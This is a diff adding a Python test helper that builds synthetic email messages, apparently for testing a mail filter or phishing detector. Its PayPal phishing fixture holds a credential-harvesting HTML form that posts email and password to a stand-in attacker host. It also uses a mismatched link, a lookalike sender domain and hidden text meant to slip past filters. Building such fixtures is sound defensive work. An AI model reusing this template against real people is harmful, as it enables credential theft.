@@ -1,0 +1,79 @@
+"""Build small, realistic test messages in code.
+
+Crafted messages keep each test's input next to its assertion; no corpus
+file is needed, so the tests run on a plain clone.
+"""
+
+from __future__ import annotations
+
+from email.message import EmailMessage
+from email.utils import format_datetime
+import datetime as dt
+
+DATE = format_datetime(dt.datetime(2024, 3, 5, 9, 30, tzinfo=dt.UTC))
+
+
+def plain(
+    body: str = "Hi Ann,\n\nthe minutes from Tuesday are attached below.\n\nBest,\nBob\n",
+    *,
+    subject: str = "Minutes from Tuesday",
+    sender: str = "Bob Smith <bob@example.org>",
+    to: str = "ann@example.org",
+    reply_to: str | None = None,
+    msgid: str = "<20240305093000.1234@example.org>",
+    extra: dict[str, str] | None = None,
+) -> EmailMessage:
+    msg = EmailMessage()
+    msg["From"] = sender
+    msg["To"] = to
+    msg["Subject"] = subject
+    msg["Date"] = DATE
+    msg["Message-ID"] = msgid
+    if reply_to:
+        msg["Reply-To"] = reply_to
+    for key, value in (extra or {}).items():
+        msg[key] = value
+    msg.set_content(body)
+    return msg
+
+
+def html(
+    html_body: str,
+    *,
+    text_body: str | None = "Please view this message in HTML.",
+    **kwargs: object,
+) -> EmailMessage:
+    msg = plain(text_body or "", **kwargs)  # type: ignore[arg-type]
+    if text_body is None:
+        msg.set_content(html_body, subtype="html")
+    else:
+        msg.add_alternative(html_body, subtype="html")
+    return msg
+
+
+PHISH_HTML = """<html><body>
+<p>Dear customer,</p>
+<p>We detected unusual activity on your account. Your account will be suspended
+within 24 hours unless you verify your password immediately.</p>
+<p><a href="http://198.51.100.7/paypal.com/webscr/login.php">https://www.paypal.com/signin</a></p>
+<form action="https://collect.evil-host.top/post.php" method="post">
+<input type="text" name="email"><input type="password" name="pass">
+<input type="submit" value="Verify">
+</form>
+<div style="display:none">hidden filler text for the filters</div>
+</body></html>"""
+
+
+def phish(**kwargs: object) -> EmailMessage:
+    defaults: dict[str, object] = {
+        "subject": "Urgent: verify your PayPal account",
+        "sender": "PayPal Service <service@paypa1-secure.top>",
+        "reply_to": "support@mail-collect.ru",
+        "msgid": "<abc123@mailer.bulk-sender.ru>",
+    }
+    defaults.update(kwargs)
+    return html(PHISH_HTML, text_body=None, **defaults)  # type: ignore[arg-type]
+
+
+def as_bytes(msg: EmailMessage) -> bytes:
+    return msg.as_bytes()
